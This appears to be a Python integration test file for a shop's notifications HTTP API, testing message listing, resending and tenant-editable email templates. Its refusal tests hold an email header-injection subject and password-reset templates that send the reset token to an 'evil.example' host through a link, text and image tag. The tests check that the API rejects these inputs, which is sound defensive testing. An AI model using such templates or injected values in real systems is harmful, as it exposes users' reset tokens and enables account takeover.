"""Notifications over HTTP: messages listed and sent again, templates shown and replaced."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any
from uuid import UUID

import httpx
import pytest

from serai.contexts.notifications import module as notifications
from serai.contexts.notifications import store
from serai.contexts.notifications.model.messages import message_id_of
from serai.contexts.orders.contract import OrderCancelled, OrderConfirmed, OrderedLine
from serai.contexts.tenancy.contract import SCOPES
from serai.kernel import ids
from serai.kernel.db import Database
from serai.kernel.embedded import EmbeddedPostgres
from serai.kernel.module import Module
from serai.kernel.tenant import POOLED
from tests.integration.fulfilment_shop import (
    PLACES,
    Client,
    NoTokens,
    assert_plans,
    code_of,
    hear,
    open_client,
    surroundings,
)
from tests.unit.fulfilment_fakes import delivery_of

CONFIRMED = "/v1/notification-templates/order_confirmed"


@pytest.fixture
def module(database: Database) -> Module:
    return notifications.build(surroundings(database), tokens=NoTokens(), **PLACES)


@pytest.fixture
async def http(module: Module) -> AsyncIterator[httpx.AsyncClient]:
    async with open_client(module) as client:
        yield client


@pytest.fixture
def shop(http: httpx.AsyncClient, tenant: UUID) -> Client:
    return Client(http, tenant)


async def confirm(module: Module, database: Database, tenant: UUID) -> tuple[UUID, UUID]:
    """The ids of an order and of the message about it."""
    order_id = ids.new_id()
    event = OrderConfirmed(order_id, "GBP", 900, "ada@example.org", (OrderedLine(1, "MUG", 2),))
    delivery = delivery_of(tenant, event)
    assert await hear(module, database, delivery) == []
    await hear(module, database, delivery)
    return order_id, message_id_of(delivery.event_id)


async def set_status(database: Database, tenant: UUID, message_id: UUID, status: str) -> None:
    async with database.transaction(POOLED, (tenant,)) as tx:
        await tx.connection.execute(
            "UPDATE notifications.messages SET status = $2, attempts = 3, error = 'x', "
            "sent_at = CASE WHEN $2 = 'sent' THEN now() END WHERE id = $1",
            message_id, status,
        )  # fmt: skip


async def test_messages_are_listed_with_their_address_newest_first(
    module: Module, database: Database, tenant: UUID, http: httpx.AsyncClient
) -> None:
    shop = Client(http, tenant)
    made = [await confirm(module, database, tenant) for _ in range(3)]
    page = (await shop.get("/v1/notifications", limit=2)).json()
    assert [item["id"] for item in page["items"]] == [str(m) for _, m in made[:0:-1]]
    rest = (await shop.get("/v1/notifications", limit=2, cursor=page["next"])).json()
    (item,) = rest["items"]
    created_at = item["created_at"]
    assert item == {
        "id": str(made[0][1]), "order_id": str(made[0][0]), "kind": "order_confirmed",
        "status": "queued", "email": "ada@example.org", "attempts": 0, "error": "",
        "created_at": created_at, "due_at": created_at, "sent_at": None,
    }  # fmt: skip
    assert rest["next"] is None
    await set_status(database, tenant, made[1][1], "failed")
    for query, found in (
        ({"status": "failed"}, [made[1]]),
        ({"order_id": made[2][0]}, [made[2]]),
        ({"order_id": made[2][0], "status": "failed"}, []),
        ({"status": "skipped"}, []),
    ):
        items = (await shop.get("/v1/notifications", **query)).json()["items"]
        assert [item["id"] for item in items] == [str(m) for _, m in found]
    stranger = Client(http, ids.new_id())
    assert (await stranger.get("/v1/notifications")).json() == {"items": [], "next": None}
    assert code_of(await shop.get("/v1/notifications", status="lost")) == (400, "invalid")
    writer = Client(http, f"{tenant} notifications:write")
    assert code_of(await writer.get("/v1/notifications")) == (403, "missing_scope")


async def test_only_what_has_ended_is_sent_again_and_only_once_for_a_key(
    module: Module, database: Database, tenant: UUID, http: httpx.AsyncClient
) -> None:
    shop = Client(http, tenant)
    _, message_id = await confirm(module, database, tenant)
    path = f"/v1/notifications/{message_id}/resend"
    assert code_of(await shop.post(path)) == (409, "illegal_state")
    await set_status(database, tenant, message_id, "sent")
    again = await shop.post(path, key="once")
    assert (again.status_code, again.json()["status"], again.json()["attempts"]) == (
        202,
        "queued",
        0,
    )
    assert (again.json()["error"], again.json()["sent_at"]) == ("", None)
    assert (await shop.post(path, key="once")).content == again.content
    assert code_of(await shop.post(path)) == (409, "illegal_state")
    assert code_of(await shop.post_keyless(path, None)) == (400, "idempotency_key_missing")
    assert code_of(await Client(http, ids.new_id()).post(path)) == (404, "not_found")
    reader = Client(http, f"{tenant} notifications:read")
    assert code_of(await reader.post(path)) == (403, "missing_scope")


async def test_a_tenant_replaces_words_and_nobody_else_sees_it(
    tenant: UUID, http: httpx.AsyncClient
) -> None:
    shop, stranger = Client(http, tenant), Client(http, ids.new_id())
    default = await shop.get(CONFIRMED)
    assert default.headers["ETag"] == '"0"'
    assert default.json()["placeholders"] == ["lines", "order_id", "order_total", "units"]
    assert (default.json()["is_default"], default.json()["updated_at"]) == (True, None)
    words = {"subject": "Danke für $units", "text": "Summe: $order_total\n"}
    first = await shop.put(CONFIRMED, words)
    assert (first.status_code, first.headers["ETag"]) == (200, '"1"')
    assert (await shop.get(CONFIRMED)).json() == first.json()
    shown = {k: first.json()[k] for k in ("subject", "text", "html", "is_default", "version")}
    assert shown == {**words, "html": "", "is_default": False, "version": 1}
    assert (await stranger.get(CONFIRMED)).json() == default.json()
    html = {**words, "html": "<p>$order_total</p>"}
    assert code_of(await shop.put(CONFIRMED, html)) == (428, "version_required")
    stale = await shop.put(CONFIRMED, html, **{"If-Match": '"0"'})
    assert code_of(stale) == (412, "stale_version")
    second = await shop.put(CONFIRMED, html, **{"If-Match": '"1"'})
    assert (second.headers["ETag"], second.json()["html"]) == ('"2"', html["html"])
    third = await shop.put(CONFIRMED, words, **{"If-Match": "*"})
    assert third.headers["ETag"] == '"3"'


WORDS = {"subject": "S", "text": "T"}
REFUSED: list[tuple[dict[str, Any], tuple[int, str]]] = [
    ({"text": "$password"}, (422, "template_unusable")),
    ({"text": "only 5$"}, (422, "template_unusable")),
    ({"html": "$lines" * 3000}, (422, "template_unusable")),
    ({"subject": ""}, (400, "invalid")),
    ({"subject": "a\nBcc: eve@example.org"}, (400, "invalid")),
    ({"subject": "x" * 201}, (400, "invalid")),
    ({"text": ""}, (400, "invalid")),
    ({"text": "x" * 20_001}, (400, "invalid")),
    ({"text": "a\x00"}, (400, "invalid")),
    ({"kind": "order_cancelled"}, (400, "invalid")),
]


async def test_unusable_words_are_refused_and_nothing_changes(
    tenant: UUID, http: httpx.AsyncClient
) -> None:
    shop = Client(http, tenant)
    before = (await shop.get(CONFIRMED)).json()
    for changes, refusal in REFUSED:
        assert code_of(await shop.put(CONFIRMED, {**WORDS, **changes})) == refusal, changes
    for path in ("/v1/notification-templates/newsletter", "/v1/notification-templates/.."):
        assert code_of(await shop.put(path, WORDS)) == (404, "not_found")
    reader = Client(http, f"{tenant} notifications:read")
    assert code_of(await reader.put(CONFIRMED, WORDS)) == (403, "missing_scope")
    assert (await shop.get(CONFIRMED)).json() == before


RESET = "/v1/notification-templates/password_reset"
LINK = {"subject": "Reset", "text": "Go to https://shop.example/reset?t=$token"}
ASTRAY: tuple[dict[str, Any], ...] = (
    {**LINK, "text": "https://evil.example/?t=$token"},
    {**LINK, "html": '<p>News</p><img src="https://evil.example/p.gif?t=$token">'},
    {**LINK, "html": '<a href="https://evil.example/p?t=$token">go</a>'},
    {**LINK, "subject": "$token"},
)


async def test_words_that_open_accounts_take_every_scope_and_lead_to_her_own_pages(
    tenant: UUID, http: httpx.AsyncClient
) -> None:
    shop = Client(http, tenant)
    before = (await shop.get(RESET)).json()
    for scope in sorted({*SCOPES} - {"notifications:write"}):
        held = " ".join({*SCOPES} - {scope})
        refused = await Client(http, f"{tenant} {held}").put(RESET, LINK)
        assert code_of(refused) == (403, "more_powerful")
        assert refused.json()["facts"]["missing"] == [scope]
    for words in ASTRAY:
        assert code_of(await shop.put(RESET, words)) == (422, "token_misplaced"), words
    assert (await shop.get(RESET)).json() == before
    assert (await shop.put(RESET, LINK)).status_code == 200
    writer = Client(http, f"{tenant} notifications:write")
    assert (await writer.put(CONFIRMED, WORDS)).status_code == 200


async def test_of_two_first_words_at_once_one_wins(shop: Client) -> None:
    answers = await asyncio.gather(
        *(shop.put(CONFIRMED, {**WORDS, "subject": f"S{n}"}) for n in range(12))
    )
    won = [a.json()["subject"] for a in answers if a.status_code == 200]
    lost = [code_of(a) for a in answers if a.status_code != 200]
    assert (len(won), set(lost)) == (1, {(428, "version_required")})
    assert (await shop.get(CONFIRMED)).json()["subject"] == won[0]


async def test_a_cancelled_order_and_a_confirmed_one_share_their_address(
    module: Module, database: Database, tenant: UUID, shop: Client
) -> None:
    order_id, _ = await confirm(module, database, tenant)
    event = OrderCancelled(order_id, "requested", "new@example.org", "GBP", 900)
    await hear(module, database, delivery_of(tenant, event))
    items = (await shop.get("/v1/notifications", order_id=order_id)).json()["items"]
    assert [(item["kind"], item["email"]) for item in items] == [
        ("order_cancelled", "ada@example.org"), ("order_confirmed", "ada@example.org"),
    ]  # fmt: skip


async def test_every_statement_of_notifications_goes_by_an_index(
    postgres: EmbeddedPostgres, database_name: str
) -> None:
    by_id = "((tenant_id = {0}.tenant_id) AND (id = {0}.id))"
    contact = "((tenant_id = $1) AND (order_id = m.order_id))"
    await assert_plans(
        postgres.app_url(database_name),
        store.SQL,
        {
            "insert_contacts": ["Conflict Resolution: NOTHING"],
            "find_contacts": ["((tenant_id = w.tenant_id) AND (order_id = w.order_id))"],
            "insert_messages": ["Conflict Resolution: NOTHING"],
            "claim_messages": [
                "Index Scan using messages_due on messages m_2",
                "((tenant_id = t.tenant_id) AND (due_at <= $2))",
                by_id.format("c_1"),
                by_id.format("p"),
                "((tenant_id = p.tenant_id) AND (order_id = p.order_id))",
            ],
            "record_messages": [by_id.format("n")],
            "lock_messages": [by_id.format("w")],
            "requeue_messages": [by_id.format("n")],
            "list_messages": ["((tenant_id = $1) AND (id < $2))", contact],
            "list_messages_in_status": [
                "((tenant_id = $1) AND (status = $4) AND (id < $2))", contact,
            ],
            "list_messages_of_order": ["((tenant_id = $1) AND (order_id = $5) AND (id < $2))"],
            "find_templates": ["((tenant_id = w.tenant_id) AND (kind = w.kind))"],
            "lock_templates": ["((tenant_id = w.tenant_id) AND (kind = w.kind))"],
            "update_templates": ["((tenant_id = n.tenant_id) AND (kind = n.kind))"],
            "prune_messages": [
                "((tenant_id = t.tenant_id) AND (status = s.status) AND (id < $3))",
                by_id.format("gone"),
            ],
            "check_overdue": ["messages_due", "((tenant_id = $1) AND (due_at < $2))"],
        },
    )  # fmt: skip
